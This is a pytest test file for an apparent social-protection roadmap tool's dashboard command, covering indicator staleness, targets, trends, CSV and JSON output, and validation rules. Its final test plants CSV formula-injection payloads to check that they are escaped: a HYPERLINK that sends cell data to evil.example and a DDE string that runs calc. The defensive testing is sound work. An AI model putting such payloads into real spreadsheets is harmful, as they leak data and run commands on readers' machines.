"""`protsoc dashboard` and the indicator rules: staleness, qualifiers, targets, percentages and
counts."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from conftest import SEED_MEETING, SHIPPED_REGISTRY, RegistryTree


def src() -> dict[str, str]:
    """A fresh source mapping each time: yamlio.dumps would write a shared one as a YAML alias."""
    return {"document": SEED_MEETING}


ROADMAP = {
    "title": {"ar": "خارطة طريق"},
    "owner": "steering",
    "axes": [
        {"id": "health-coverage", "title": {"ar": "التغطية الصحية الأساسية"}},
        {"id": "social-assistance", "title": {"ar": "المساعدة الاجتماعية"}},
    ],
    "sources": [src()],
}


def observation(date: str, value: float, qualifier: str | None = None) -> dict[str, Any]:
    entry: dict[str, Any] = {"date": date, "value": value, "source": src()}
    if qualifier:
        entry["qualifier"] = qualifier
    return entry


def indicator(indicator_id: str, *observations: dict[str, Any], **fields: Any) -> dict[str, Any]:
    record = {
        "id": indicator_id,
        "name": {"ar": "مؤشر تجريبي", "en": "test indicator"},
        "measure": "count",
        "unit": {"ar": "مستفيد"},
        "axis": "health-coverage",
        "owner": "steering",
        "observations": list(observations),
        "sources": [src()],
    }
    record.update(fields)
    return record


@pytest.fixture
def dashboard_tree(make_registry) -> RegistryTree:  # type: ignore[no-untyped-def]
    return make_registry(
        {
            "roadmap/roadmap.yaml": ROADMAP,
            # half-yearly, with a target: two values, the latest of 2024-06-30
            "roadmap/indicators/insured.yaml": indicator(
                "insured",
                observation("2023-12-31", 9_000_000, "about"),
                observation("2024-06-30", 10_000_000, "more-than"),
                frequency="P6M",
                direction="higher",
                baseline={"value": 9_000_000, "date": "2023-12-31", "source": src()},
                target={"value": 12_000_000, "date": "2026-12-31", "source": src()},
            ),
            # lower is better, no target, yearly
            "roadmap/indicators/waiting-days.yaml": indicator(
                "waiting-days",
                observation("2023-01-01", 30),
                observation("2024-01-01", 25),
                frequency="P1Y",
                direction="lower",
                axis="social-assistance",
            ),
            # the shipped case: one value, no frequency, no target, no direction
            "roadmap/indicators/decrees.yaml": indicator("decrees", observation("2024-11-26", 28)),
        }
    )


def dashboard_json(run, tree: RegistryTree, *args: str) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    outcome = run(["protsoc", "dashboard", "--format", "json", "--registry", str(tree.root), *args])
    assert outcome.exit_code == 0, outcome.output
    return json.loads(outcome.stdout)


def rows(payload: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {r["id"]: r for r in payload["indicators"]}


def test_stale_when_older_than_its_frequency_allows(run, dashboard_tree: RegistryTree) -> None:  # type: ignore[no-untyped-def]
    fresh = rows(dashboard_json(run, dashboard_tree, "--as-of", "2024-12-30"))["insured"]
    assert fresh["freshness"] == "fresh"
    assert fresh["next_update_due"] == "2024-12-30"  # 2024-06-30 + 6 months
    stale = rows(dashboard_json(run, dashboard_tree, "--as-of", "2024-12-31"))["insured"]
    assert stale["freshness"] == "stale"
    assert stale["age_days"] == 184


def test_fail_on_stale(run, dashboard_tree: RegistryTree) -> None:  # type: ignore[no-untyped-def]
    base = ["protsoc", "dashboard", "--fail-on-stale", "--registry", str(dashboard_tree.root)]
    assert run([*base, "--as-of", "2024-12-30"]).exit_code == 0
    stale = run([*base, "--as-of", "2024-12-31", "--format", "csv"])
    assert stale.exit_code == 1
    assert "insured" in stale.stdout  # the report is printed all the same


def test_an_indicator_without_frequency_is_never_called_stale(
    run, dashboard_tree: RegistryTree
) -> None:  # type: ignore[no-untyped-def]
    row = rows(dashboard_json(run, dashboard_tree, "--as-of", "2030-01-01"))["decrees"]
    assert row["freshness"] == "no-frequency"
    assert row["next_update_due"] is None


def test_values_after_the_as_of_date_are_ignored(run, dashboard_tree: RegistryTree) -> None:  # type: ignore[no-untyped-def]
    payload = rows(dashboard_json(run, dashboard_tree, "--as-of", "2024-01-15"))
    assert payload["insured"]["latest"]["value"] == 9_000_000
    assert payload["insured"]["previous"] is None
    assert payload["decrees"]["latest"] is None and payload["decrees"]["freshness"] == "no-data"


def test_change_trend_target_and_qualifiers(run, dashboard_tree: RegistryTree) -> None:  # type: ignore[no-untyped-def]
    payload = rows(dashboard_json(run, dashboard_tree, "--as-of", "2024-12-01"))
    insured = payload["insured"]
    assert (
        insured["latest"]["qualifier"] == "more-than"
        and insured["previous"]["qualifier"] == "about"
    )
    assert insured["change"] == 1_000_000
    assert insured["change_approximate"] is True
    assert insured["trend"] == "better"
    assert insured["target"] == {"value": 12_000_000, "date": "2026-12-31"}
    assert insured["distance_to_target"] == 2_000_000
    assert insured["target_met"] is False
    assert insured["series"] == [9_000_000, 10_000_000]
    assert insured["sparkline"] == "▁█"
    waiting = payload["waiting-days"]
    assert waiting["change"] == -5 and waiting["trend"] == "better"  # lower is better
    assert waiting["change_approximate"] is False
    decrees = payload["decrees"]
    assert decrees["target"] is None and decrees["direction"] is None and decrees["trend"] is None


def test_text_says_no_target_and_shows_qualifiers(run, dashboard_tree: RegistryTree) -> None:  # type: ignore[no-untyped-def]
    outcome = run(
        ["protsoc", "dashboard", "--as-of", "2024-12-31", "--registry", str(dashboard_tree.root)]
    )
    assert outcome.exit_code == 0
    lines = {line.split()[0]: line for line in outcome.stdout.splitlines() if line.strip()}
    assert "no target" in lines["decrees"]
    assert (
        ">10\u202f000\u202f000" in lines["insured"] and "≈9\u202f000\u202f000" in lines["insured"]
    )
    assert (
        "stale" in lines["insured"] and "12\u202f000\u202f000 by" in lines["insured"]
    )  # the target cell wraps
    assert "▁█" in lines["insured"]
    assert "3 indicators: 1 stale, 0 without data, 2 without target" in outcome.stdout


def test_axis_filter(run, dashboard_tree: RegistryTree) -> None:  # type: ignore[no-untyped-def]
    payload = dashboard_json(
        run, dashboard_tree, "--axis", "social-assistance", "--as-of", "2025-01-01"
    )
    assert [r["id"] for r in payload["indicators"]] == ["waiting-days"]
    outcome = run(
        ["protsoc", "dashboard", "--axis", "nope", "--registry", str(dashboard_tree.root)]
    )
    assert outcome.exit_code == 2
    assert "no roadmap axis `nope`" in outcome.stderr and "health-coverage" in outcome.stderr


def test_csv_shape(run, dashboard_tree: RegistryTree) -> None:  # type: ignore[no-untyped-def]
    from protsoc.cli.dashboard import CSV_COLUMNS

    outcome = run(
        [
            "protsoc",
            "dashboard",
            "--format",
            "csv",
            "--as-of",
            "2024-12-31",
            "--registry",
            str(dashboard_tree.root),
        ]
    )
    assert outcome.exit_code == 0
    reader = csv.DictReader(io.StringIO(outcome.stdout))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    table = {r["id"]: r for r in reader}
    assert set(table) == {"insured", "waiting-days", "decrees"}
    insured = table["insured"]
    # spreadsheet-friendly: plain numbers, qualifiers in their own column, empty when unknown
    assert insured["latest_value"] == "10000000" and insured["latest_qualifier"] == "more-than"
    assert insured["change"] == "1000000" and insured["change_approximate"] == "true"
    assert insured["target_value"] == "12000000" and insured["distance_to_target"] == "2000000"
    assert insured["freshness"] == "stale" and insured["observations"] == "2"
    assert table["decrees"]["target_value"] == "" and table["decrees"]["direction"] == ""
    assert table["decrees"]["name_ar"] == "مؤشر تجريبي"


def test_json_shape(run, dashboard_tree: RegistryTree) -> None:  # type: ignore[no-untyped-def]
    payload = dashboard_json(run, dashboard_tree, "--as-of", "2024-12-31")
    assert set(payload) == {"format_version", "as_of", "counts", "indicators", "finance"}
    # no programme and no money: the block says so, with no zero amounts
    assert payload["finance"] == {"programmes": 0, "recorded": False, "currency": "MAD"}
    assert payload["counts"] == {"indicators": 3, "stale": 1, "no_data": 0, "no_target": 2}
    row = payload["indicators"][0]
    assert set(row) >= {
        "id",
        "name",
        "axis",
        "measure",
        "unit",
        "direction",
        "frequency",
        "latest",
        "previous",
        "change",
        "trend",
        "target",
        "distance_to_target",
        "target_met",
        "freshness",
        "next_update_due",
        "series",
        "sparkline",
    }
    assert set(row["latest"]) == {"date", "value", "qualifier", "as_reported", "source"}


def test_an_empty_dashboard_is_not_an_error(run, make_registry) -> None:  # type: ignore[no-untyped-def]
    tree = make_registry()
    outcome = run(["protsoc", "dashboard", "--registry", str(tree.root)])
    assert outcome.exit_code == 0
    assert "no indicators" in outcome.stdout
    assert (
        run(["protsoc", "dashboard", "--format", "csv", "--registry", str(tree.root)]).stdout.count(
            "\n"
        )
        == 1
    )


def test_sparkline_scales_between_min_and_max() -> None:
    from protsoc.governance.indicator import sparkline

    assert sparkline([]) == ""
    assert sparkline([5, 5]) == "▄▄"
    assert sparkline([0, 50, 100]) == "▁▅█"


# --- rules ------------------------------------------------------------------------------------


def finding_rules(run, tree: RegistryTree) -> dict[str, dict[str, Any]]:  # type: ignore[no-untyped-def]
    outcome = run(["protsoc", "validate", "--format", "json", "--registry", str(tree.root)])
    return {f["rule"]: f for f in json.loads(outcome.stdout)["errors"]}


@pytest.mark.parametrize(
    "fields, rule, json_path",
    [
        (
            {"measure": "percentage", "observations": [observation("2024-01-01", 112.5)]},
            "indicator-percentage-range",
            "$.observations[0].value",
        ),
        (
            {"measure": "percentage", "observations": [observation("2024-01-01", -1)]},
            "indicator-percentage-range",
            "$.observations[0].value",
        ),
        (
            {
                "measure": "percentage",
                "observations": [observation("2024-01-01", 40)],
                "target": {"value": 101, "date": "2026-01-01", "source": src()},
            },
            "indicator-percentage-range",
            "$.target.value",
        ),
        (
            {"observations": [observation("2024-01-01", 11.1)]},
            "indicator-count-value",
            "$.observations[0].value",
        ),
        (
            {"observations": [observation("2024-01-01", -3)]},
            "indicator-count-value",
            "$.observations[0].value",
        ),
        (
            {"valid_from": "2024-06-01", "observations": [observation("2024-01-01", 3)]},
            "indicator-observation-outside-lifetime",
            "$.observations[0].date",
        ),
        (
            {"valid_until": "2023-12-31", "observations": [observation("2024-01-01", 3)]},
            "indicator-observation-outside-lifetime",
            "$.observations[0].date",
        ),
        (
            {
                "baseline": {"value": 1, "date": "2024-01-01", "source": src()},
                "target": {"value": 2, "date": "2023-01-01", "source": src()},
            },
            "indicator-target-before-baseline",
            "$.target.date",
        ),
        (
            {"observations": [observation("2024-06-01", 3), observation("2024-01-01", 2)]},
            "indicator-observations-order",
            "$.observations[1].date",
        ),
    ],
)
def test_indicator_rules(
    run, make_registry, fields: dict[str, Any], rule: str, json_path: str
) -> None:  # type: ignore[no-untyped-def]
    record = indicator("bad", observation("2024-01-01", 1))
    record.update(fields)
    tree = make_registry({"roadmap/roadmap.yaml": ROADMAP, "roadmap/indicators/bad.yaml": record})
    found = finding_rules(run, tree)
    assert rule in found, found
    assert found[rule]["json_path"] == json_path
    assert found[rule]["file"].endswith("roadmap/indicators/bad.yaml")
    assert found[rule]["line"] > 1 and found[rule]["hint"]


def test_an_observation_in_the_future_is_refused(run, make_registry) -> None:  # type: ignore[no-untyped-def]
    later = (dt.date.today() + dt.timedelta(days=30)).isoformat()
    tree = make_registry(
        {
            "roadmap/roadmap.yaml": ROADMAP,
            "roadmap/indicators/bad.yaml": indicator("bad", observation(later, 3)),
        }
    )
    found = finding_rules(run, tree)
    assert "indicator-observation-future" in found
    assert later in found["indicator-observation-future"]["message"]


def test_valid_values_raise_no_indicator_finding(run, dashboard_tree: RegistryTree) -> None:  # type: ignore[no-untyped-def]
    dashboard_tree.write(
        "roadmap/indicators/share.yaml",
        indicator(
            "share",
            observation("2024-01-01", 0),
            observation("2024-06-01", 100),
            measure="percentage",
        ),
    )
    assert not [r for r in finding_rules(run, dashboard_tree) if r.startswith("indicator-")]


# --- the shipped registry ---------------------------------------------------------------------


@pytest.fixture
def shipped(tmp_path: Path) -> Path:
    root = tmp_path / "registry"
    shutil.copytree(SHIPPED_REGISTRY, root)
    return root


def test_shipped_dashboard(run_process, shipped: Path) -> None:  # type: ignore[no-untyped-def]
    outcome = run_process(
        [
            "protsoc",
            "dashboard",
            "--format",
            "json",
            "--as-of",
            "2026-01-01",
            "--registry",
            str(shipped),
        ]
    )
    assert outcome.exit_code == 0, outcome.output
    payload = {r["id"]: r for r in json.loads(outcome.stdout)["indicators"]}
    assert len(payload) == 15
    tadamon = payload["amo-tadamon-beneficiaries"]["latest"]
    assert (tadamon["value"], tadamon["qualifier"], tadamon["date"]) == (
        11_100_000,
        "more-than",
        "2024-11-26",
    )
    assert payload["amo-tns-beneficiaries"]["latest"]["qualifier"] == "about"
    assert payload["amo-tns-self-employed"]["latest"]["value"] == 1_700_000
    assert payload["cnss-new-posts"]["latest"]["date"] == "2025-05-27"
    assert [
        payload[i]["latest"]["value"]
        for i in (
            "communication-campaigns",
            "regional-caravans",
            "professional-organisation-meetings",
        )
    ] == [25, 8400, 4200]
    # no seed gives a target or a frequency: the dashboard says so rather than inventing one
    assert all(r["target"] is None and r["freshness"] == "no-frequency" for r in payload.values())
    assert all(r["owner"] == "technical" for r in payload.values())
    text = run_process(
        ["protsoc", "dashboard", "--as-of", "2026-01-01", "--registry", str(shipped)]
    )
    assert (
        text.exit_code == 0
        and "15 indicators: 0 stale, 0 without data, 15 without target" in text.stdout
    )


def test_shipped_dashboard_csv_has_one_row_per_indicator(run, shipped: Path) -> None:  # type: ignore[no-untyped-def]
    outcome = run(["protsoc", "dashboard", "--format", "csv", "--registry", str(shipped)])
    table = list(csv.DictReader(io.StringIO(outcome.stdout)))
    assert len(table) == 15
    assert {r["latest_qualifier"] for r in table} == {"", "about", "more-than"}


def test_csv_cells_never_run_as_formulas_in_a_spreadsheet(run, make_registry) -> None:  # type: ignore[no-untyped-def]
    """Record text from a pull request reaches the CSV that the secretariat opens in Excel."""
    hostile = {
        "name": {"ar": '=HYPERLINK("http://evil.example/?"&A1,"انقر")', "en": "@SUM(1+1)"},
        "unit": {"ar": "+cmd|' /C calc'!A0"},
    }
    tree = make_registry(
        {
            "roadmap/roadmap.yaml": ROADMAP,
            "roadmap/indicators/falling.yaml": indicator(
                "falling", observation("2023-01-01", 30), observation("2024-01-01", 25), **hostile
            ),
        }
    )
    outcome = run(["protsoc", "dashboard", "--format", "csv", "--registry", str(tree.root)])
    assert outcome.exit_code == 0, outcome.output
    [row] = list(csv.DictReader(io.StringIO(outcome.stdout)))
    assert row["name_ar"] == "'" + hostile["name"]["ar"]
    assert row["name_en"] == "'@SUM(1+1)"
    assert row["unit"] == "'" + hostile["unit"]["ar"]
    assert row["change"] == "-5"  # a number protsoc computed stays a number
